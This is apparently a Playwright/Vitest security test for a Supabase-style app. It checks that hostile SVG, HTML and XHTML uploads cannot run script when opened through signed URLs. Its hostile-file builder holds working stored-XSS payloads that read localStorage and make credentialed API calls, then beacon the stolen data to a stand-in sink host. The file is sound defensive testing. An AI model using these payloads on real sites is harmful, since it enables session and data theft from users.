import { randomUUID } from 'node:crypto'
import { createClient } from '@supabase/supabase-js'
import pg from 'pg'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest'
import { launchChromium } from '../../../../../test/browser.ts'
import { startStack, type TestStack } from '../../../../../test/stack.ts'
import { signApiKey } from '../../platform/keys/install-secrets.ts'

/**
 * Issue 12, S1, in a real browser: a user's file must never run as the app. Each hostile file
 * (SVG, HTML, XHTML) tries everything a stored XSS would: `alert`, setting the page title, a
 * credentialed `fetch` to the app's /api, reading the app's localStorage, and beacons to a
 * sink origin the browser context answers itself. Chromium opens the signed URL of each, as a
 * victim clicking a shared link would, and the test watches every channel: dialogs, the title,
 * every request the browser makes, and the sink. A positive control serves the same files
 * without the server's defences and sees every channel fire, so the watching is proven to work.
 */
const BAIT_TITLE = 'signed file'

type Hits = { path: string }[]

/** The three hostile files, each reporting to `sink` and probing `appUrl` if it ever runs. */
function hostileFiles(appUrl: string, sink: string) {
  const script = `
    document.title = 'SCRIPT RAN';
    try { alert('xss'); } catch (e) {}
    fetch('${sink}/ran?from=' + encodeURIComponent(location.href)).catch(function () {});
    new Image().src = '${sink}/image-beacon';
    fetch('${appUrl}/api/credits?xss-probe=1', { credentials: 'include' })
      .then(function (r) { return r.text(); })
      .then(function (t) { fetch('${sink}/stole?body=' + encodeURIComponent(t.slice(0, 80))); })
      .catch(function () {});
    try { fetch('${sink}/storage?keys=' + Object.keys(localStorage).join(',')); } catch (e) {}
  `
  return {
    'drawing.svg': {
      contentType: 'image/svg+xml',
      body: `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='SCRIPT RAN'"><title>${BAIT_TITLE}</title><script>${script}</script><circle r="40" cx="50" cy="50"/></svg>`,
    },
    'page.html': {
      contentType: 'text/html',
      body: `<!doctype html><html><head><title>${BAIT_TITLE}</title></head><body><img src="x" onerror="document.title='SCRIPT RAN'"><script>${script}</script></body></html>`,
    },
    'page.xhtml': {
      contentType: 'application/xhtml+xml',
      body: `<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>${BAIT_TITLE}</title></head><body><script>//<![CDATA[\n${script}\n//]]></script></body></html>`,
    },
  }
}

let stack: TestStack
let browser: Browser
let db: pg.Client
/** Answered inside the browser context (no real server, so no network policy in the way). */
const sinkUrl = 'http://sink.example.test'
const sinkHits: Hits = []
/** A supabase-js client of the stack with this key, its session in memory only. */
const clientWith = (key: string) =>
  createClient(stack.appUrl, key, { auth: { persistSession: false, autoRefreshToken: false } })
let serviceRole: ReturnType<typeof clientWith>
/** A bucket that lists no types, so the hostile files can be stored at all (by the server). */
const OPEN_BUCKET = `open-${randomUUID().slice(0, 8)}`

beforeAll(async () => {
  ;[stack, browser] = await Promise.all([
    startStack({ adminUrl: inject('postgresAdminUrl') }),
    launchChromium(),
  ])
  db = new pg.Client({ connectionString: stack.databaseUrl })
  await db.connect()
  await db.query(
    `insert into storage.buckets (id, name, public, allowed_mime_types) values ($1, $1, false, null)`,
    [OPEN_BUCKET],
  )
  const now = Math.floor(Date.now() / 1000)
  serviceRole = clientWith(await signApiKey(stack.jwtSecret, 'service_role', now))
})

afterAll(async () => {
  await db?.end()
  await browser?.close()
  await stack?.stop()
})

/** What a page did that only script could have done. */
type Observed = {
  dialogs: string[]
  requests: string[]
  downloads: string[]
  sinkHits: string[]
}

let context: BrowserContext
let page: Page
let observed: Observed

beforeEach(async () => {
  sinkHits.length = 0
  context = await browser.newContext({ acceptDownloads: true })
  observed = { dialogs: [], requests: [], downloads: [], sinkHits: [] }
  context.on('request', (request) => observed.requests.push(request.url()))
  await context.route(`${sinkUrl}/**`, async (route) => {
    const url = new URL(route.request().url())
    sinkHits.push({ path: `${url.pathname}${url.search}` })
    await route.fulfill({
      status: 200,
      headers: { 'access-control-allow-origin': '*' },
      body: 'ok',
    })
  })
  context.on('page', (opened) => {
    opened.on('dialog', (dialog) => {
      observed.dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    opened.on('download', (download) => observed.downloads.push(download.suggestedFilename()))
  })
  page = await context.newPage()
  // The victim is signed in: the app's origin holds a session in localStorage.
  await page.goto(stack.appUrl)
  await page.evaluate(() => localStorage.setItem('sb-session', 'victim-access-token'))
})

afterEach(async () => {
  await context.close()
})

/** Opens `url` as a clicked link would, then gives any script time to run and report. */
async function open(url: string): Promise<{ status: number | null; title: string }> {
  let status: number | null = null
  try {
    const response = await page.goto(url, { waitUntil: 'load' })
    status = response?.status() ?? null
  } catch (error) {
    // An attachment is saved, not rendered: Chromium ends the navigation with a download.
    if (!/Download is starting|net::ERR_ABORTED/.test(String(error))) {
      throw error
    }
  }
  await page.waitForTimeout(750)
  observed.sinkHits = sinkHits.map((hit) => hit.path)
  return { status, title: await page.title().catch(() => '') }
}

function expectNoScriptRan(title: string) {
  expect(observed.dialogs).toEqual([])
  expect(observed.sinkHits).toEqual([])
  expect(
    observed.requests.filter((url) => url.includes('xss-probe') || url.startsWith(sinkUrl)),
  ).toEqual([])
  expect(title).not.toBe('SCRIPT RAN')
}

describe('hostile files opened through signed URLs in Chromium', () => {
  it("refuses the user's own upload of SVG, HTML and XHTML to every bucket they may write", async () => {
    const user = clientWith(
      await signApiKey(stack.jwtSecret, 'anon', Math.floor(Date.now() / 1000)),
    )
    const { data, error } = await user.auth.signUp({
      email: `mallory-${randomUUID().slice(0, 8)}@example.com`,
      password: 'correct-horse-battery',
    })
    expect(error).toBeNull()
    const userId = data.user?.id ?? ''
    for (const [name, file] of Object.entries(hostileFiles(stack.appUrl, sinkUrl))) {
      for (const bucket of ['cover-letters', 'interviews', 'resumes']) {
        const declared = await user.storage
          .from(bucket)
          .upload(`${userId}/${name}`, Buffer.from(file.body), { contentType: file.contentType })
        expect(declared.error, `${bucket}/${name}`).toMatchObject({ statusCode: '415' })
      }
      // Disguised as a type the bucket takes: refused by its bytes.
      const disguised = await user.storage
        .from('cover-letters')
        .upload(`${userId}/${name}.pdf`, Buffer.from(file.body), { contentType: 'application/pdf' })
      expect(disguised.error).toMatchObject({ statusCode: '415' })
    }
    const { rows } = await db.query(`select name from storage.objects where name like $1`, [
      `${userId}/%`,
    ])
    expect(rows).toEqual([])
  })

  it.each(['drawing.svg', 'page.html', 'page.xhtml'])(
    'runs no script from %s stored by the server: it is saved as an attachment',
    async (name) => {
      const file = hostileFiles(stack.appUrl, sinkUrl)[name as 'page.html']
      const path = `victim/${randomUUID()}/${name}`
      const stored = await serviceRole.storage
        .from(OPEN_BUCKET)
        .upload(path, Buffer.from(file.body), { contentType: file.contentType })
      expect(stored.error).toBeNull()
      const { data } = await serviceRole.storage.from(OPEN_BUCKET).createSignedUrl(path, 600)
      const signedUrl = data?.signedUrl ?? ''

      const headers = (await fetch(signedUrl)).headers
      expect(headers.get('content-type')).toBe('application/octet-stream')
      expect(headers.get('content-disposition')).toMatch(/^attachment;/)
      expect(headers.get('content-security-policy')).toBe("default-src 'none'; sandbox")
      expect(headers.get('x-content-type-options')).toBe('nosniff')

      const { title } = await open(signedUrl)
      expect(observed.downloads).toEqual([name])
      expectNoScriptRan(title)
    },
  )

  it.each([
    ['page.html', 'text/plain'],
    ['drawing.svg', 'image/png'],
    ['page.xhtml', 'audio/mpeg'],
  ])(
    'runs no script from %s behind an inert type (%s): nosniff and the sandbox hold',
    async (name, inertType) => {
      // A row whose stored type is inert but whose bytes are script (stored before uploads were
      // checked): served inline, so only nosniff and the CSP sandbox stand in the way.
      const file = hostileFiles(stack.appUrl, sinkUrl)[name as 'page.html']
      const path = `victim/${randomUUID()}/${name}`
      await serviceRole.storage
        .from(OPEN_BUCKET)
        .upload(path, Buffer.from(file.body), { contentType: file.contentType })
      await db.query(
        `update storage.objects set metadata = jsonb_set(metadata, '{mimetype}', to_jsonb($3::text))
         where bucket_id = $1 and name = $2`,
        [OPEN_BUCKET, path, inertType],
      )
      const { data } = await serviceRole.storage.from(OPEN_BUCKET).createSignedUrl(path, 600)

      const { status, title } = await open(data?.signedUrl ?? '')
      expect(status).toBe(200)
      expect(observed.downloads).toEqual([])
      expectNoScriptRan(title)
    },
  )

  it('runs no script from HTML a user stores as plain text in their cover-letters folder', async () => {
    const user = clientWith(
      await signApiKey(stack.jwtSecret, 'anon', Math.floor(Date.now() / 1000)),
    )
    const { data: account } = await user.auth.signUp({
      email: `eve-${randomUUID().slice(0, 8)}@example.com`,
      password: 'correct-horse-battery',
    })
    const path = `${account.user?.id}/letter.txt`
    const html = hostileFiles(stack.appUrl, sinkUrl)['page.html'].body
    const upload = await user.storage
      .from('cover-letters')
      .upload(path, Buffer.from(html), { contentType: 'text/plain' })
    expect(upload.error).toBeNull()
    const { data } = await user.storage.from('cover-letters').createSignedUrl(path, 600)

    const { status, title } = await open(data?.signedUrl ?? '')
    expect(status).toBe(200)
    expect(await page.locator('body').innerText()).toContain('<script>')
    expectNoScriptRan(title)
  })

  it('sees every channel fire when the same files are served without the defences (control)', async () => {
    for (const [name, file] of Object.entries(hostileFiles(stack.appUrl, sinkUrl))) {
      // Under /storage, as signed URLs are: the app's service worker (installed by the first
      // page) leaves those navigations to the network, where the route answers. Elsewhere it
      // would answer with the app shell, and the control would see no script run.
      const url = `${stack.appUrl}/storage/v1/control/${name}`
      await page.route(url, (route) =>
        route.fulfill({ status: 200, contentType: file.contentType, body: file.body }),
      )
      sinkHits.length = 0
      observed.dialogs = []
      const { title } = await open(url)
      expect(observed.dialogs, name).toEqual(['xss'])
      expect(title, name).toBe('SCRIPT RAN')
      expect(
        observed.sinkHits.some((hit) => hit.startsWith('/ran?')),
        name,
      ).toBe(true)
      expect(
        observed.sinkHits.some((hit) => hit.includes('sb-session')),
        name,
      ).toBe(true)
      expect(
        observed.requests.some((request) => request.includes('xss-probe')),
        name,
      ).toBe(true)
    }
  })
})
